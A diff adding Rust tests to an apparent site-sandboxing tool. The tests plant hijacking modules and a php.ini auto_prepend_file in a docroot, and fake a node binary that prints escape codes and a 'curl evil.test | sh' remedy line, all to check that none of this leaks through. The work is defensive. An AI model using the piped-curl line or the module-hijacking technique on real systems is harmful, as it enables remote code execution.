@@ -4,7 +4,7 @@ use std::fs;
 use std::os::unix::fs::{PermissionsExt, chown};
 use std::process::{Child, Command, Stdio};
 
-use crate::harness::{Launcher, World, as_in_the_manual, run, spawn, world};
+use crate::harness::{Launcher, World, as_in_the_manual, put, run, spawn, world};
 use crate::pieces::{redis, share, until};
 use crate::sink::Sink;
 
@@ -198,5 +198,66 @@ fn the_tree_has_each_place_with_the_line_behind_it() {
         world.apply();
         let tree = text(&world.cellwall(&["jail", "show", "alice"]).stdout);
         assert!(tree.contains("the host's own files") && tree.contains("read, execute"), "{tree}");
+    });
+}
+
+/// Modules and settings of the site's own, where each language would look for them first.
+fn hostile(world: &World) {
+    let says = "error: \u{1b}[31mbroken\nhelp: curl evil.test | sh";
+    let python =
+        format!("print({says:?})\nprint('good', 'python', 'forged', '', sep='\\t')\nraise SystemExit\n")
+            .replace("\\u{1b}", "\\x1b");
+    let php = format!("<?php echo \"{says}\\ngood\\tphp\\tforged\\t\\n\"; exit;\n");
+    let ruby = format!("print \"{says}\\ngood\\truby\\tforged\\t\\n\"; exit\n");
+    let perl = format!("print \"{says}\\ngood\\tperl\\tforged\\t\\n\"; exit; 1\n");
+    let ini = "auto_prepend_file = /var/www/alice/htdocs/evil.php\n";
+    for (name, text) in [
+        ("datetime.py", python.as_str()),
+        ("ssl.py", &python),
+        ("evil.php", &php),
+        ("php.ini", ini),
+        (".user.ini", ini),
+        ("json.rb", &ruby),
+        ("POSIX.pm", &perl),
+    ] {
+        world.script(&world.alice, name, text);
+    }
+}
+
+#[test]
+fn nothing_of_the_sites_own_answers_in_place_of_a_probe() {
+    world(Launcher::Cellwall, |world| {
+        hostile(world);
+        let top = world.alice.docroot().display().to_string();
+        let set: String = ["PYTHONPATH", "PERL5LIB", "RUBYLIB", "PHPRC"]
+            .map(|name| format!("{name} = \"{top}\"\n"))
+            .concat();
+        let pieces = "pieces = [\"python\", \"perl\", \"ruby\"]";
+        world.site("alice", &format!("profile = \"php\"\n{pieces}\n[environment.set]\n{set}"));
+        world.apply();
+        let (all, good) = check(world, &["--tls", "localhost:1"]);
+        assert!(!all.contains("forged") && !all.contains("evil.test"), "{all}");
+        for name in ["php ", "python ", "perl ", "ruby ", "sh "] {
+            finding(&all, &format!("pass  {name}"));
+        }
+        assert!(!good && all.contains("FAIL  TLS by php") && all.contains(" 1 failed"), "{all}");
+    });
+}
+
+#[test]
+fn what_a_program_in_the_cell_says_is_escaped_and_no_remedy() {
+    world(Launcher::Cellwall, |world| {
+        let says = "#!/bin/sh\nprintf 'error: \\033[31mx\\nhelp: curl evil.test | sh\\n'; exit 99\n";
+        put("/usr/bin/node.new", says.as_bytes(), 0, 0o755);
+        fs::rename("/usr/bin/node.new", "/usr/bin/node").unwrap();
+        world.site("alice", "profile = \"node\"\n");
+        world.apply();
+        let (all, good) = check(world, &[]);
+        assert!(!good && !all.contains('\u{1b}') && !all.contains("evil.test"), "{all}");
+        broken(&all, "node", "\\x1b[31mx", "apt-get install nodejs");
+        // The launcher's own remedy is one.
+        fs::remove_file("/usr/bin/node").unwrap();
+        let (all, _) = check(world, &[]);
+        broken(&all, "node", "is not there, inside the cell (V117)", "install it, or name it in `execute`");
     });
 }
